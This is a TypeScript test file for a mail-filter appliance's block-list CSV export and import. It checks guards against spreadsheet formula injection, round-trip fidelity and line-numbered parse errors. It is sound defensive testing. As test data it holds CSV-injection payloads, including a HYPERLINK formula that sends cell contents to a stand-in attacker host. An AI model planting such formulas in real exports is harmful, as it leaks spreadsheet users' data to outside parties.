// The list file format: every exported cell guarded against spreadsheet formulas (CSV injection),
// exports that import back to the same entries (quoted fields included), and per-line errors with
// the right line numbers for a file the CSV parser cannot read.
import test from 'ava';
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { guardCell, toCsv, unguardCell } from '../../appliance/csv/csv.ts';
import { parseListFile, SIMPLE_HEADER } from '../../appliance/lists/list-files.ts';
import { ListsStore } from '../../appliance/lists/lists-store.ts';
import { openStore } from '../../appliance/store/store.ts';

async function fresh(t: { teardown(fn: () => Promise<void>): void }): Promise<ListsStore> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'mailmoat-listfiles-'));
  const store = await openStore(dir);
  t.teardown(async () => { await store.close().catch(() => {}); await rm(dir, { recursive: true, force: true }); });
  return ListsStore.open(store);
}

const simple = { direction: 'inbound' as const, kind: 'sender-block' as const, scope: 'domain' as const, owner: 'example.com' };
const condition = { ...simple, kind: 'condition-block' as const };

test('an exported cell starting with = + - @ TAB or CR is written as text, not as a formula', (t) => {
  const csv = toCsv(['value', 'note'], [
    ['a@evil.test', '=HYPERLINK("http://evil.test/?"&A1,"click")'],
    ['b@evil.test', '+1+2'], ['c@evil.test', '-2+3'], ['d@evil.test', '@SUM(A1:A2)'],
    ['e@evil.test', '\t=1'], ['f@evil.test', '\r=1'], ['g@evil.test', 'plain = text'],
  ]);
  const cells = parseListFile(csv, SIMPLE_HEADER).map((r) => r.fields[1]);
  t.is(cells.length, 7);
  // What a spreadsheet sees in each note cell: nothing it would evaluate.
  const raw = csv.split('\r\n').slice(1, -1).map((line) => line.slice(line.indexOf(',') + 1).replace(/^"/, ''));
  for (const cell of raw.slice(0, 6)) t.true(cell.startsWith("'"), cell);
  t.is(raw[6], 'plain = text');
  t.is(cells[0], '=HYPERLINK("http://evil.test/?"&A1,"click")', 'the importer takes the guard off again');
});

test('the guard is reversible, also for text that already starts with apostrophes', (t) => {
  for (const v of ['=1', "'=1", "''=1", "'plain", '-', '', 'x=1', '@', "'"]) t.is(unguardCell(guardCell(v)), v, v);
  t.is(guardCell("'=1"), "''=1");
  t.is(guardCell("'plain"), "'plain");
});

test('a list with quotes, commas, line breaks, edge spaces and formula-like notes exports and imports back unchanged', async (t) => {
  const lists = await fresh(t);
  const notes = ['=HYPERLINK("http://x.test","y")', 'said "hi", twice', 'two\nlines', 'crlf\r\ninside', '  padded  ', "'=already guarded", '-5', '請求書, 至急'];
  for (const [i, note] of notes.entries()) await lists.add({ ...simple, value: `s${i}@spam.test`, note });
  await lists.add({ ...condition, field: 'subject', value: ' Sale, "today" ', mode: 'partial', note: '@here' });
  await lists.add({ ...condition, field: 'header', header: 'X-Mailer', value: '+mass\nmailer', mode: 'exact' });

  const other = await fresh(t);
  for (const ref of [simple, condition]) {
    const exported = lists.export(ref);
    const result = await other.import(ref, exported);
    t.deepEqual(result.skipped, []);
    const shape = (s: ListsStore) => s.list(ref).map((e) => ({ field: e.field, value: e.value, mode: e.mode, header: e.header, note: e.note }));
    t.deepEqual(shape(other), shape(lists));
    t.is(other.export(ref), exported, 'exporting the imported list gives the same file');
  }
});

test('a line the CSV parser cannot read is reported with its line number; the lines before it are imported', async (t) => {
  const lists = await fresh(t);
  const text = 'value,note\n# comment\n\nok1@spam.test,"note\nover two lines"\nok2@spam.test,fine\nbad@spam.test,"unclosed\nrest@spam.test,x\n';
  const rows = parseListFile(text, SIMPLE_HEADER);
  t.deepEqual(rows.map((r) => r.line), [4, 6, 7]);
  t.is(rows[0].raw, 'ok1@spam.test,"note\nover two lines"');
  const result = await lists.import(simple, text);
  t.is(result.added, 2);
  t.is(result.skipped.length, 1);
  t.is(result.skipped[0].line, 7);
  t.regex(result.skipped[0].error, /cannot be read as CSV.*Quote Not Closed/);
  t.regex(result.skipped[0].text, /^bad@spam\.test,"unclosed/);
});
